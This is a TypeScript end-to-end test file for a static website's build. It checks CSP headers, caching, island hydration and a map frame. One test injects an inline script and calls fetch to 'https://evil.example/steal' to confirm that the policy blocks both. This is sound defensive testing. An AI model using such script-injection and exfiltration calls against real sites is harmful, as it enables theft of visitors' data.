/**
 * The test build as a browser and a host see it:
 * - every built file keeps the output rules (scripts/check-dist.ts: strict CSP with matching
 *   hashes, no inline styles or handlers, noopener, no credential but the public token);
 * - the `_headers` rules, applied by the static server as Netlify/Cloudflare would, send the CSP
 *   with frame-ancestors, the security headers and the right caching;
 * - in Chromium with those headers, every page loads with no CSP violation and its islands
 *   hydrate, while an injected inline script or a request to another origin is blocked.
 */
import { readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { headerRelevantPolicy } from '~/integrations/securityHeaders';
import { listFiles } from '../../src/integrations/builtFiles';
import { SECURITY_HEADERS, isEditorFile, parsePolicy } from '~/config/securityPolicy';
import { HINDI_PATHS, ROUTES, STORY_FOLDERS, localizedPath } from '~/lib/routes';
import { TEST_DIST } from './support/config';
import { prebuilt } from './support/prebuilt';
import { launchBrowser, openPage, walkInTurns, type TestBrowser } from './support/browser';
import { hydrateEveryIsland, pathOfFile, watchCsp } from './support/csp';

const site = inject('siteUrl');
let chrome: TestBrowser;
let pages: string[] = [];

/** Shows every island in turn until each has hydrated (`client:visible` ones too); counts them. */
async function hydrateAll(page: Page): Promise<number> {
  if (!(await hydrateEveryIsland(page, 20_000))) {
    // Which islands still wait, and where the page is.
    const waiting = await page.evaluate(() => ({
      islands: [...document.querySelectorAll('astro-island[ssr]')].map(
        (island) => `${island.getAttribute('component-url')} (${island.getAttribute('client')})`,
      ),
      scrollY: window.scrollY,
      height: document.documentElement.scrollHeight,
    }));
    expect.fail(`islands of ${page.url()} hydrated: ${JSON.stringify(waiting)}`);
  }
  return page.locator('astro-island').count();
}

beforeAll(async () => {
  chrome = await launchBrowser();
  // The site's pages. The content editor's page (/admin/) has its own policy and headers,
  // checked by checkDist (checkEditorPage) below and tests/e2e/admin.test.ts.
  pages = (await listFiles(TEST_DIST)).filter(
    (file) => file.endsWith('.html') && !isEditorFile(file),
  );
});
afterAll(async () => {
  await chrome?.close();
});

describe('built output', () => {
  it('keeps every output rule in every file', async () => {
    // checkDist(TEST_DIST, { apiBaseUrl: TEST_API_ORIGIN, publicToken: PUBLIC_API_TOKEN }), run
    // ahead of time while other files ran (./support/prebuilt.ts), or here when run alone.
    const findings = await prebuilt('check-dist-main');
    expect(findings).toEqual([]);
  });

  it('has a _headers file whose policy allows what every page allows', async () => {
    const text = await readFile(join(TEST_DIST, '_headers'), 'utf8');
    const header = parsePolicy(/Content-Security-Policy: (.*)/.exec(text)?.[1] ?? '');
    expect(header.get('frame-ancestors')).toEqual(["'none'"]);
    for (const file of pages) {
      const html = await readFile(join(TEST_DIST, file), 'utf8');
      // Everything but the hashes of data blocks (JSON-LD), which script-src does not govern.
      const meta = parsePolicy(headerRelevantPolicy(html));
      for (const [name, sources] of meta) {
        for (const source of sources) {
          // Each page's inline rules have their own hash (src/integrations/criticalCss.ts): the
          // header allows inline styles and the page's meta policy keeps it to its own.
          if (name === 'style-src' && source.startsWith("'sha256-")) {
            expect(header.get(name), `${file}: ${name}`).toContain("'unsafe-inline'");
            continue;
          }
          expect(header.get(name), `${file}: ${name} ${source}`).toContain(source);
        }
      }
    }
  });
});

describe('headers of the served build', () => {
  it('sends the CSP, security headers and short caching with every page', async () => {
    for (const file of pages) {
      const path = pathOfFile(file);
      const response = await fetch(site + path);
      expect(response.status, path).toBe(200);
      const csp = parsePolicy(response.headers.get('content-security-policy') ?? '');
      expect(csp.get('frame-ancestors'), path).toEqual(["'none'"]);
      expect(csp.get('object-src'), path).toEqual(["'none'"]);
      // 'wasm-unsafe-eval' (the search page's WebAssembly) is no 'unsafe-eval': check whole tokens.
      expect(csp.get('script-src')?.join(' '), path).not.toMatch(/'unsafe-(inline|eval)'/);
      for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
        expect(response.headers.get(name), `${name} on ${path}`).toBe(value);
      }
      expect(response.headers.get('cache-control'), path).toBe(
        'public, max-age=0, must-revalidate',
      );
    }
  });

  it('caches hashed assets for a year, and revalidates robots.txt and the sitemap', async () => {
    const asset = (await listFiles(join(TEST_DIST, '_astro'))).find((f) => f.endsWith('.js'));
    expect(asset).toBeDefined();
    const assetResponse = await fetch(`${site}/_astro/${asset}`);
    expect(assetResponse.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(assetResponse.headers.get('x-content-type-options')).toBe('nosniff');
    for (const path of ['/robots.txt', '/sitemap-index.xml', '/favicon.ico']) {
      const response = await fetch(site + path);
      expect(response.status, path).toBe(200);
      expect(response.headers.get('cache-control'), path).toBe(
        'public, max-age=0, must-revalidate',
      );
    }
  });

  it('sends /status.json, which monitors read, with no-store alone and no address in it', async () => {
    const response = await fetch(`${site}/status.json`);
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const text = await response.text();
    expect(JSON.parse(text)).toHaveProperty('dataFetchedAt');
    expect(text).not.toMatch(/https?:\/\//);
  });
});

/** A story's page (not the Hindi one). */
const STORY_PAGE = new RegExp(`^/(?:${Object.values(STORY_FOLDERS).join('|')})/`);

describe('in Chromium with the headers applied', () => {
  it('loads every page with no CSP violation and hydrates its islands', async () => {
    const problems: Record<string, string[]> = {};
    let islands = 0;
    // tests/e2e/frame.test.ts loads every route and every Hindi page and fails on a CSP
    // violation there; here go the pages with islands (every one hydrated) and the pages it
    // does not load (an album, the 404 page). Hindi pages run the same islands with other words
    // (the Hindi home page stands for them), and the albums and each kind of story are one
    // template (scripts/check-dist.ts checks every file's scripts and styles against the policy);
    // tests/e2e/xss.test.ts walks the same kinds of page with hostile content.
    const framed = new Set([
      ...ROUTES.map((route) => route.path),
      ...HINDI_PATHS.map((path) => localizedPath(path, 'hi')),
    ]);
    const albums = pages.filter((file) => file.startsWith('Album/'));
    expect(albums.length).toBeGreaterThan(0);
    // Each kind of story is one template too: its first page stands for it.
    const firstStories = Object.values(STORY_FOLDERS).map((folder) =>
      pages.find((file) => file.startsWith(`${folder}/`)),
    );
    expect(firstStories.every(Boolean), 'a page of every kind of story').toBe(true);
    const targets = pages.filter((file) => {
      const path = pathOfFile(file);
      if (path.startsWith('/Album/')) return file === albums[0];
      if (STORY_PAGE.test(path)) return firstStories.includes(file);
      if (path.startsWith('/hi/')) return false;
      return (
        !framed.has(path) || readFileSync(join(TEST_DIST, file), 'utf8').includes('<astro-island')
      );
    });
    expect(targets.length).toBeLessThan(pages.length);
    expect(targets.map(pathOfFile)).toEqual(expect.arrayContaining(['/', '/hi', '/404']));
    // Three pages at a time, each walker going on to the next page when done.
    await walkInTurns(chrome.browser, targets.map(pathOfFile), async (walker, path) => {
      const { page } = walker;
      await walker.visit(site + path);
      islands += await hydrateAll(page);
      await page.waitForLoadState('networkidle');
      const found = [
        ...(await walker.cspViolations()),
        ...walker.consoleErrors.filter((m) => /Content Security Policy/i.test(m)),
        ...walker.pageErrors.map((e) => `page error: ${e.message}`),
      ];
      if (found.length) problems[path] = found;
    });
    expect(problems).toEqual({});
    // The check above means something only if some page has islands to hydrate.
    expect(islands).toBeGreaterThan(0);
  }, 600_000);

  it('blocks an injected inline script and a request to another origin', async () => {
    const { page, context } = await openPage(chrome.browser);
    try {
      const violations = await watchCsp(page);
      await page.goto(`${site}/AboutNgo`, { waitUntil: 'load' });
      const ran = await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.__injected = true';
        document.head.append(script);
        return (window as unknown as { __injected?: boolean }).__injected === true;
      });
      expect(ran).toBe(false);
      const fetched = await page.evaluate(() =>
        fetch('https://evil.example/steal').then(
          () => 'sent',
          () => 'blocked',
        ),
      );
      expect(fetched).toBe('blocked');
      await expect
        .poll(violations)
        .toEqual(
          expect.arrayContaining([
            expect.stringMatching(/^script-src-elem blocked inline/),
            expect.stringMatching(/^connect-src blocked https:\/\/evil\.example/),
          ]),
        );
    } finally {
      await context.close();
    }
  });

  it('opens the photo lightbox with no CSP violation', async () => {
    const { page, context, pageErrors } = await openPage(chrome.browser);
    try {
      const violations = await watchCsp(page);
      await page.goto(`${site}/HealthcareCenters`, { waitUntil: 'load' });
      const photo = page.locator('a[data-pswp-width]').first();
      await photo.scrollIntoViewIfNeeded();
      await photo.click();
      await expect.poll(() => page.locator('.pswp--open').count()).toBe(1);
      await page.waitForLoadState('networkidle');
      expect(await violations()).toEqual([]);
      expect(pageErrors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("lets the subscribe box's no-JavaScript mailto: form through form-action", async () => {
    const { page, context, consoleErrors } = await openPage(chrome.browser, {
      javaScriptEnabled: false,
    });
    try {
      const mailto = page.waitForRequest((request) => request.url().startsWith('mailto:'));
      await page.goto(`${site}/AboutNgo`, { waitUntil: 'load' });
      await page.getByPlaceholder('Enter Your Mail ID').fill('visitor@example.org');
      await page.getByRole('button', { name: 'Subscribe' }).click();
      expect((await mailto).url()).toMatch(/^mailto:/);
      expect(consoleErrors.filter((m) => /Content Security Policy/i.test(m))).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('loads the map frame on request with no referrer, a sandbox and no CSP violation', async () => {
    const { page, context } = await openPage(chrome.browser);
    try {
      const violations = await watchCsp(page);
      // Keep the test offline: the frame's request is answered here, not by OpenStreetMap.
      await page.route('https://www.openstreetmap.org/**', (route) =>
        route.fulfill({ status: 200, contentType: 'text/html', body: '<p>map</p>' }),
      );
      await page.goto(`${site}/AboutNgo`, { waitUntil: 'load' });
      await page.getByRole('button', { name: 'Show map' }).first().click();
      const frame = page.locator('iframe.map-embed__frame').first();
      await expect.poll(() => frame.count()).toBe(1);
      expect(await frame.getAttribute('referrerpolicy')).toBe('no-referrer');
      expect(await frame.getAttribute('sandbox')).toBeTruthy();
      await page.waitForLoadState('networkidle');
      expect(await violations()).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
